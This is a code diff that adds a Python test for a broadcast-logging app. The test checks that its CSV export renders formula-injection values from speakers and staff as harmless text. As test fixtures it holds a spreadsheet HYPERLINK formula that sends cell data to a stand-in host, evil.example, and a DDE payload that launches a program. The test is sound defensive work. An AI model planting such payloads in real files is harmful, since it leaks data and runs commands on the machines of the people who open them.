@@ -95,6 +95,30 @@ def test_csv_export_is_utf8_with_bom_and_vietnamese(login, history):
     assert {r[6] for r in rows[1:]} == {"Ấp Mỹ An"} and all(r[8] == "played" for r in rows[1:])
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem")'
+
+
+def test_csv_cells_from_speakers_and_staff_never_run_as_formulas(login, history, seeded):
+    from controller.ingest import Ingestor
+    from protocol.messages import Ack
+
+    with seeded.db.session() as s:
+        b = s.get(Broadcast, history[0])
+        b.announcement.title = "@SUM(1+1)*cmd|' /C calc'!A0"
+        d = next(d for d in b.deliveries if d.speaker_id == "spk-b")
+        cmd = d.command_id
+    # A compromised Pi acks with a formula as its reason: the real ingest path stores it.
+    Ingestor(seeded).process([("spk-b", "ack", Ack(cmd, "spk-b", "rejected", utcnow(),
+                                                    detail=FORMULA).encode())])
+    body = login("viewer").get("/log.csv").get_data().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body)))[1:]
+    assert "'" + FORMULA in [r[10] for r in rows]  # still readable, shown as text
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [r[1] for r in rows]
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
 def test_matrix_shows_each_speaker_and_event_times(login, history):
     html = login("viewer").get(f"/broadcasts/{history[1]}").get_data(as_text=True)
     for sid in ("spk-a", "spk-b", "spk-c"):
